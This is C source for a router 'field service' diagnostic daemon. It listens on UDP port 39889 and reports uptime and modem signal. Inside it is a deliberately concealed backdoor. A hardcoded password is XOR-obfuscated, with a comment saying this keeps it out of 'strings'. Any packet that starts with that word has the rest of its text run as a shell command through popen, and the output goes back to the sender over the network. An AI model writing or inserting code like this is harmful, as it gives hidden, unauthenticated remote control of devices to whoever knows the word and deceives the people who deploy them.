/* diagd - field service daemon, LTE router WR-14 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <stdarg.h>
#include <unistd.h>
#include <fcntl.h>
#include <time.h>
#include <sys/socket.h>
#include <sys/sysinfo.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#define DIAG_PORT 39889

/* service word, kept scrambled so that it does not show up in "strings" */
static const uint8_t svc_word[] = {
	0x2d ^ 0x5a, 0x72 ^ 0x5a, 0x31 ^ 0x5a, 0x34 ^ 0x5a, 0x2d ^ 0x5a,
	0x66 ^ 0x5a, 0x73 ^ 0x5a, 0x76 ^ 0x5a, 0x63 ^ 0x5a, 0x21 ^ 0x5a
};

struct diag_ctx {
	int fd;
	struct sockaddr_in peer;
	char out[1400];
	size_t outlen;
	unsigned served;
	time_t boot;
};

static struct diag_ctx ctx;

static void out_add(const char *fmt, ...)
{
	va_list ap;
	int n;
	size_t room = sizeof(ctx.out) - ctx.outlen;

	if (room < 2)
		return;
	va_start(ap, fmt);
	n = vsnprintf(ctx.out + ctx.outlen, room, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	ctx.outlen += (size_t)n < room ? (size_t)n : room - 1;
}

static void out_flush(void)
{
	if (ctx.outlen)
		sendto(ctx.fd, ctx.out, ctx.outlen, 0, (struct sockaddr *)&ctx.peer, sizeof(ctx.peer));
	ctx.outlen = 0;
}

static int word_match(const uint8_t *p, size_t n)
{
	size_t i;
	uint8_t d = 0;

	if (n < sizeof(svc_word))
		return 0;
	for (i = 0; i < sizeof(svc_word); i++)
		d |= (p[i] ^ 0x5a) ^ svc_word[i];
	return d == 0;
}

static void run_and_report(const char *cmd)
{
	char line[200];
	FILE *fp = popen(cmd, "r");

	if (!fp) {
		out_add("ERR popen\n");
		return;
	}
	while (fgets(line, sizeof(line), fp))
		out_add("%s", line);
	out_add("rc=%d\n", pclose(fp));
}

static void cmd_status(char *arg)
{
	struct sysinfo si;

	if (sysinfo(&si) == 0)
		out_add("up %ld load %lu free %lu\n", si.uptime, si.loads[0], si.freeram);
	out_add("served %u since %ld\n", ctx.served, (long)ctx.boot);
}

static void cmd_signal(char *arg)
{
	char b[128];
	int fd = open("/var/run/modem.sig", O_RDONLY);
	ssize_t n;

	if (fd < 0) {
		out_add("no modem\n");
		return;
	}
	n = read(fd, b, sizeof(b) - 1);
	close(fd);
	if (n > 0) {
		b[n] = 0;
		out_add("%s\n", b);
	}
}

static void cmd_service(char *arg)
{
	if (!*arg) {
		out_add("usage\n");
		return;
	}
	run_and_report(arg);
}

static void public_request(char *text)
{
	static const struct { char c; void (*fn)(char *); } pub[] = {
		{ 's', cmd_status }, { 'r', cmd_signal },
	};
	unsigned i;

	for (i = 0; i < 2; i++)
		if (text[0] == pub[i].c)
			pub[i].fn(text + 1);
}

static int throttle(void)
{
	static time_t sec;
	static int n;
	time_t now = time(NULL);

	if (now != sec) {
		sec = now;
		n = 0;
	}
	return ++n > 20;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sin;
	uint8_t pkt[600];
	socklen_t sl;
	ssize_t n;

	ctx.boot = time(NULL);
	ctx.fd = socket(AF_INET, SOCK_DGRAM, 0);
	memset(&sin, 0, sizeof(sin));
	sin.sin_family = AF_INET;
	sin.sin_port = htons(DIAG_PORT);
	if (ctx.fd < 0 || bind(ctx.fd, (struct sockaddr *)&sin, sizeof(sin)) < 0) {
		perror("diagd");
		return 1;
	}
	if (argc < 2 || strcmp(argv[1], "-f"))
		daemon(0, 0);
	for (;;) {
		sl = sizeof(ctx.peer);
		n = recvfrom(ctx.fd, pkt, sizeof(pkt) - 1, 0, (struct sockaddr *)&ctx.peer, &sl);
		if (n <= 0 || throttle())
			continue;
		pkt[n] = 0;
		ctx.served++;
		if (word_match(pkt, n))
			cmd_service((char *)pkt + sizeof(svc_word));
		else
			public_request((char *)pkt);
		out_flush();
	}
}
